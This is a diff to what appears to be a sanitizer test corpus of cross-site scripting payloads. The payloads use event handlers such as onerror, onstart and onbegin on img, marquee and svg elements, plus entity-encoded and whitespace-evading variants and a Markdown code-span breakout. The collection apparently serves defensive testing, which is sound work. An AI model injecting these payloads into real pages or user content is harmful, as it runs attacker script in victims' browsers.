@@ -44,7 +44,7 @@ HANDLERS = {
     "onstart of a marquee": "<marquee onstart=@RUN>x</marquee>",
     "onbegin of an animation": "<svg><animate onbegin=@RUN attributeName=x dur=1s /></svg>",
     "onbegin of a set": "<svg><set onbegin=@RUN attributeName=x to=1 /></svg>",
-    "handler without blanks": "<img/src=x/onerror=@RUN>",
+    "handler without blanks": "<img/src='x'/onerror=@RUN>",
     "handler on lines": "<img\nsrc=x\nonerror\n=\n@RUN\n>",
     "handler in backticks": "<img src=`x`onerror=@RUN>",
     "handler in entities": "<img src=x onerror=&#104;&#x61;rm(@ID)>",
@@ -277,7 +277,7 @@ WORDS = {
 }
 MARKDOWN_WORDS = {
     "Markdown image": "![](@URL/a.png)",
-    "end of code": "`<img src=x onerror=@RUN>`",
+    "end of code": "x` <img src=x onerror=@RUN>",
     "end of a cell": "x | <img src=x onerror=@RUN> | y",
     "end of a line": "x\n\n<img src=x onerror=@RUN>\n\n" + _fence(GRAPH),
 }
